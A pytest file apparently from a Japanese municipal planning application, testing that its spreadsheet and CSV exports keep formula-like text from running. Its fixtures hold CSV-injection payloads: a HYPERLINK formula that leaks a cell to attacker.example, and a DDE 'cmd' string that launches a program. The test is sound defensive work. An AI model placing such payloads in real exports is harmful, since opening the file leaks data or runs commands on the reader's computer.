"""Formula injection (OWASP "CSV Injection"): text that a spreadsheet would run stays text in every export.

Names, narratives, labels and comments that begin with = + - @ (or tab or carriage return) are written to
xlsx as string cells, never formulas, and to CSV with a leading single quote; numbers, negative ones too,
stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from sasaeai.exports.cells import FORMULA_TRIGGERS, csv_text, looks_like_formula
from sasaeai.exports.formats import EVALUATION_FORMATS, REPORT_FORMATS
from sasaeai.exports.opendata_export import export_opendata
from sasaeai.exports.queries import indicator_sheet, report_sheet
from sasaeai.lifecycle.kpi_export import kpi_sheet_workbook
from sasaeai.lifecycle.models import Kpi, KpiSheet
from sasaeai.people.roles import COMMAND_LINE
from sasaeai.plans.models import Comment
from sasaeai.reports.models import Quantity, Side

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"詳細はこちら")'
SUM = "=1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3"
TAB = "\t=1+1"
NEGATIVE = Decimal("-5")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-1,000", "-1,000"),
        ("ふれあいサロン = 87箇所", "ふれあいサロン = 87箇所"),
        ("", ""),
    ],
)
def test_csv_text_quotes_only_what_a_spreadsheet_would_run(text: str, expected: str) -> None:
    assert csv_text(text) == expected


def test_every_trigger_is_recognised() -> None:
    assert all(looks_like_formula(f"{trigger}cmd") for trigger in FORMULA_TRIGGERS)


def _no_formulas(data: bytes) -> list[object]:
    """Every cell value of the workbook, after asserting that none of them is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    values: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


@pytest.fixture
def hostile(cast):
    """The cast with names, narratives, labels and a comment that look like formulas, and a negative figure."""
    cast.salon.name = HYPERLINK
    cast.salon.save(update_fields=["name"])
    for entry in (cast.salon_entry, *cast.published.entries.all()):
        entry.narrative, entry.activities = SUM, PLUS
        entry.save(update_fields=["narrative", "activities"])
        Quantity.objects.create(entry=entry, side=Side.CURRENT, order=9, label=AT, value=NEGATIVE, unit=MINUS)
    cast.indicator.name = SUM
    cast.indicator.save(update_fields=["name"])
    Comment.objects.create(author=cast.committee, indicator=cast.indicator, fiscal_year=2024, text=AT)
    return cast


def test_report_xlsx_writes_formula_text_as_text_and_figures_as_numbers(hostile) -> None:
    values = _no_formulas(REPORT_FORMATS["xlsx"].write(report_sheet(hostile.draft)))
    for text in (HYPERLINK, SUM, PLUS, AT, MINUS):
        assert text in values
    assert -5 in values and "-5" not in values


@pytest.mark.filterwarnings(
    "ignore:Sparkline Group extension"
)  # openpyxl reads no sparklines; cells are enough
def test_evaluation_xlsx_writes_formula_text_as_text(hostile) -> None:
    values = _no_formulas(EVALUATION_FORMATS["xlsx"].write(indicator_sheet(COMMAND_LINE, hostile.plan)))
    assert SUM in values
    assert AT in values


def test_kpi_workbook_writes_formula_text_as_text(cast) -> None:
    sheet = KpiSheet.objects.create(organisation=cast.council, project_name=HYPERLINK, future_issues=TAB)
    Kpi.objects.create(
        sheet=sheet, kind=MINUS, name=SUM, target_value=NEGATIVE, actual_value=Decimal(3), reason=AT
    )
    values = _no_formulas(kpi_sheet_workbook(sheet))
    for text in (HYPERLINK, SUM, AT, MINUS, TAB):
        assert text in values
    assert -5 in values


def test_opendata_csv_quotes_formula_text_and_keeps_negative_figures(hostile, tmp_path: Path) -> None:
    cells = []
    for path in export_opendata(tmp_path):
        if path.suffix == ".csv":
            rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
            cells.extend(cell for row in rows[1:] for cell in row)
    runnable = [cell for cell in cells if looks_like_formula(cell)]
    assert runnable == [], "cells a spreadsheet would run"
    for text in (HYPERLINK, SUM, PLUS, AT, MINUS):
        assert f"'{text}" in cells
    assert "-5" in cells
